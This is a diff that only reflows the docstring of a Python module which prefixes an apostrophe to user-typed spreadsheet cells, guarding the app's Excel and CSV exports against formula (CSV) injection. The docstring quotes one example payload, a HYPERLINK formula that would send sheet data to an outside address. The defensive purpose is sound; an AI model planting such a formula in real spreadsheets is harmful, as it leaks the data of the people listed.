@@ -1,10 +1,10 @@
 """One rule for every spreadsheet the app hands out: text someone typed never runs as a formula.
 
-The Excel files of reports/exports.py and the CSV files of the guest book (frontoffice/views.py) and the
-open catalogue (catalogue/api.py) put titles, agencies, names and purposes that applicants and
-visitors wrote into cells. A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@``,
-a tab or a carriage return (OWASP's "CSV injection"); ``=HYPERLINK("http://…"&A2,"Klik")`` would
-send the sheet's data away. Such text gets a leading apostrophe and stays visible as text.
+The Excel files of reports/exports.py and the CSV files of the guest book (frontoffice/views.py)
+and the open catalogue (catalogue/api.py) put titles, agencies, names and purposes that applicants
+and visitors wrote into cells. A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``,
+``@``, a tab or a carriage return (OWASP's "CSV injection"); ``=HYPERLINK("http://…"&A2,"Klik")``
+would send the sheet's data away. Such text gets a leading apostrophe and stays visible as text.
 """
 from __future__ import annotations
 
